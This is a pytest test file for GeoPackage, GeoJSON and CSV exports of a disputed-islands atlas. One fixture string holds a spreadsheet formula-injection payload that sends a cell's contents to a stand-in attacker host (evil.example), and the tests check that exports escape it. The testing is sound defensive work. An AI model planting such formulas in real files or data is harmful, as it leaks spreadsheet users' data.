"""The GeoPackage to take away, opened again; and the data of the articles alone, and of hostile text."""

import json
import re
from concurrent.futures import ThreadPoolExecutor
from xml.etree import ElementTree

import geopandas
import pyogrio
import pytest

from content.data import names
from content.data.join import load_atlas
from content.exports import data
from content.exports.data import geojson, geopackage, table
from content.model.types import RECORDS
from geo import UNITS
from geo.layers import read_layer
from geo.styles import TOKENS
from tests.exports.data_read import ATLAS, BOOKS, EDITION, cells
from tests.project import change, records


def spelled(text):
    return names.spelled(text, BOOKS.units)


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"a")\nsecond, line\r\n\'quoted\' <b>&amp;</b> 択捉'
LAYERS = [
    *("units", "areas", "populations", "events", "proposals", "sources"),
    *("columns", "about", "layer_styles"),
]


@pytest.fixture(scope="module")
def opened(tmp_path_factory):
    """Opens a GeoPackage: layer -> its rows, with None where there is nothing."""

    def layers(content):
        path = tmp_path_factory.mktemp("data") / "islands.gpkg"
        path.write_bytes(content)
        read = {str(name): geopandas.read_file(path, layer=name) for name, _ in pyogrio.list_layers(path)}
        return {name: frame.astype(object).where(frame.notna(), None) for name, frame in read.items()}

    return layers


@pytest.fixture(scope="module")
def package(opened):
    return opened(geopackage(ATLAS, EDITION))


def test_geopackage_has_its_layers(package):
    assert list(package) == LAYERS
    counts = {name: len(package[name]) for name in ("units", "populations", "events", "proposals")}
    assert counts == {
        "units": 4,
        "populations": len(BOOKS.populations),
        "events": len(BOOKS.events),
        "proposals": len(BOOKS.proposals),
    }
    assert len(package["areas"]) == len(ATLAS.areas)
    columns = {name for layer in LAYERS[:6] for name in package[layer].columns} - {"geometry"}
    assert set(package["columns"]["column"]) == columns


def test_qgis_finds_its_style(package):
    """The table and the columns by which QGIS looks for it, as its provider for OGR does."""
    style = package["layer_styles"].iloc[0]
    assert (style.f_table_schema, style.f_table_name, style.f_geometry_column) == ("", "units", "geom")
    drawn = ElementTree.fromstring(style.styleQML)
    assert style.useAsDefault and drawn.find(".//prop[@k='color']").get("v") == TOKENS["light"]["unit"]
    named = drawn.find(".//text-style").get("fieldName")
    assert all(name in package["units"].columns for name in re.findall(r"name_\w+", named))
    assert "{" not in style.styleQML


def test_geopackage_has_the_outlines(opened, tmp_path):
    path = tmp_path / "islands.gpkg"
    path.write_bytes(geopackage(ATLAS, EDITION))
    units = geopandas.read_file(path, layer="units")
    assert units.crs == "EPSG:4326"
    assert dict(units.set_index("unit").geometry) == read_layer("islands")
    for told in ("dataset_metadata", "layer_metadata"):
        read = pyogrio.read_info(path, layer="units")[told]
        assert read["edition"] == EDITION and "ODbL" in read["license"] and "OpenStreetMap" in read["attribution"]


def test_about_can_be_read(package):
    told = dict(zip(package["about"]["subject"], package["about"]["text"], strict=True))
    assert told == data.about(ATLAS, EDITION, "all")
    assert told["edition"] == EDITION


@pytest.mark.parametrize("record", RECORDS)
def test_every_row_names_sources_that_are_listed(opened, record):
    layers = opened(geopackage(ATLAS, EDITION, record))
    labels = dict(zip(layers["sources"]["id"], layers["sources"]["label"], strict=True))
    for name in layers.keys() & set(LAYERS[:5]):
        for row in layers[name].itertuples():
            ids = row.source_ids.split()
            assert ids and all(labels[source] in row.source for source in ids)


def test_events_and_proposals_say_what_the_records_say(package):
    for row in package["events"].itertuples():
        event = BOOKS.events[row.event]
        assert (row.date, row.until, row.title, tuple(row.units.split())) == (
            *(event.date, event.until, spelled(event.title), event.units),
        )
        assert all(spelled(statement.text) in row.text for statement in event.statements)
    for row in package["proposals"].itertuples():
        proposal = BOOKS.proposals[row.proposal]
        told = "\n".join(getattr(row, name) or "" for name in ("terms", "accounts", "conditions", "answer", "fate"))
        assert all(spelled(statement.text) in told for statement in proposal.statements)
    offer = package["proposals"].set_index("proposal").loc["transfer-1956"]
    assert list(offer[list(UNITS)]) == ["not addressed", "not addressed", "handed to Japan", "handed to Japan"]


def test_articles_alone_leave_the_references_out(opened):
    layers = opened(geopackage(ATLAS, EDITION, "articles"))
    assert list(layers) == [name for name in LAYERS if name != "populations"]
    for name in ("areas", "events", "proposals"):
        assert all(set(ids.split()) & BOOKS.excerpts.keys() for ids in layers[name]["source_ids"])
    assert "outlines" in set(layers["sources"]["id"]) <= {"outlines", *BOOKS.excerpts}
    rows = cells(table(ATLAS, EDITION, "articles"))
    assert {row["unit"] for row in rows} == set(UNITS) and {row["source_ids"] for row in rows} == {"a0-15"}
    text = geojson(ATLAS, EDITION, "articles").decode()
    assert "gsi-area-survey" not in text and "mofa-japan-areas" not in text


def test_same_bytes_from_many_threads_and_the_options_are_put_back():
    with ThreadPoolExecutor(8) as pool:
        made = set(pool.map(lambda _: geopackage(ATLAS, EDITION), range(24)))
    assert len(made) == 1
    assert pyogrio.get_gdal_config_option("OGR_CURRENT_DATE") is None
    assert pyogrio.get_gdal_config_option("OGR_SQLITE_SYNCHRONOUS") is None


@pytest.fixture
def hostile(root):
    """An atlas whose records hold text that CSV, JSON, XML and spreadsheets trip over."""
    change(root, "units", "iturup", kind=HOSTILE)
    event = records(root, "events")[0]["id"]
    change(root, "events", event, title=HOSTILE)
    change(root, "references", "mofa-japan-areas", publisher=HOSTILE)
    return load_atlas(root), event


def test_hostile_text_survives(hostile, opened):
    atlas, event = hostile
    kind = atlas.books.units["iturup"].kind
    assert kind.startswith("=HYPERLINK(") and "\n" in kind
    assert json.loads(geojson(atlas, EDITION))["features"][0]["properties"]["kind"] == kind
    layers = opened(geopackage(atlas, HOSTILE))
    assert layers["units"]["kind"][0] == kind
    assert atlas.books.events[event].title in list(layers["events"]["title"])
    assert HOSTILE in list(layers["about"]["text"])
    rows = cells(table(atlas, EDITION))
    assert {row["kind"] for row in rows if row["unit"] == "iturup"} == {"'" + kind}
    risky = [text for row in rows for name, text in row.items() if text.startswith(data.FORMULA)]
    assert risky and all(float(text) < 0 for text in risky)  # our own numbers, and nothing else
    assert any(row["source"].startswith("'=HYPERLINK(") for row in rows)
